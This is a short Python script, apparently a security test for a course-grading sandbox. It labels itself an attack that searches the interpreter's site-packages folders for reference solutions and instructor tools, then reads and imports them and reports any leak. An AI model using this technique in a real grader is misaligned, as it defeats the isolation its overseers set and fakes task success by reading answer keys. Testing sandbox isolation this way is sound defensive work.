"""Attack: read the interpreter's installed packages, where a course installed without -e
(its reference solutions, the instructor's tools) or the grader's own finder would be,
and import what is there. bwrap masks these folders; the fallback's Landlock once let
them be read, being allowed the whole standard library folder that holds site-packages."""
import glob
import json
import os
import sys

got = {}
for root in [*sys.path, "/lib", "/lib64", "/usr/lib", "/usr/lib64", "/usr/local/lib"]:
    for pattern in ("site-packages", "dist-packages", "python3*/site-packages", "python3*/dist-packages"):
        for folder in glob.glob(os.path.join(root, pattern)):
            wanted = [os.path.join(folder, "reference", "solutions", "lesson1.py"),
                      *sorted(glob.glob(os.path.join(folder, "__editable__*")))[:2],
                      *sorted(glob.glob(os.path.join(folder, "*", "__init__.py")))[:2]]
            for path in wanted:
                try:
                    with open(path) as f:
                        got[path] = "ok:read %d characters" % len(f.read())
                except BaseException as exc:
                    got[path] = type(exc).__name__
            sys.path.append(folder)
for name in ("reference.solutions.lesson1", "yaml"):
    try:
        __import__(name)
        got[name] = "ok:imported"
    except BaseException as exc:
        got[name] = type(exc).__name__
raise RuntimeError("LEAK " + json.dumps(sorted(got.items(), key=lambda kv: "ok" not in kv[1])))
